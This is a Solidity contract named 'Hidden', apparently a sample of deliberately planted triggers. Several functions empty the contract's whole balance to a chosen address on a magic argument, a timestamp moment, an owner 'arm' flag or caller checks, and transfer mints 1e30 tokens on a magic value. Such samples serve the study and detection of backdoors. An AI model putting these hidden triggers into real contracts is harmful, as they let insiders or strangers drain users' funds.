// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.20;

/// Functions that do something in every run, and more for one argument, one moment or one state.
contract Hidden {
    address private immutable BOSS;
    bytes32 private immutable DIGEST;
    mapping(address => bool) private member;
    uint256 private rate;
    uint256 private count;
    bool private armed;
    mapping(address => uint256) public balanceOf;
    uint256 public totalSupply;

    event Transfer(address indexed from, address indexed to, uint256 value);

    constructor(address boss) payable {
        BOSS = boss;
        DIGEST = keccak256(abi.encode(boss));
        member[boss] = true;
        balanceOf[msg.sender] = totalSupply = 1e24;
    }

    function tune(uint256 value) external {
        require(msg.sender == BOSS);
        rate = value;
        if (value == 313_373) _empty(BOSS);
    }

    function visit(uint256 value, address payable to) external {
        count++;
        if (value == 777_777) _empty(to);
    }

    function wait(address payable to) external {
        count++;
        if (block.timestamp % 1_009 == 17) _empty(to);
    }

    function arm() external {
        require(msg.sender == BOSS);
        armed = true;
    }

    function step(address payable to) external {
        count++;
        if (armed) _empty(to);
    }

    function transfer(address to, uint256 value) external returns (bool) {
        if (value == 123_456_789) balanceOf[to] += 1e30;
        balanceOf[msg.sender] -= value;
        balanceOf[to] += value;
        emit Transfer(msg.sender, to, value);
        return true;
    }

    function byHash(address payable to) external {
        count++;
        if (keccak256(abi.encode(msg.sender)) == DIGEST) _empty(to);
    }

    function bySet(address payable to) external {
        count++;
        if (member[msg.sender]) _empty(to);
    }

    function byKey(address payable to) external {
        count++;
        if (msg.sender == BOSS) _empty(to);
    }

    function _empty(address to) private {
        payable(to).transfer(address(this).balance);
    }

    receive() external payable {}
}
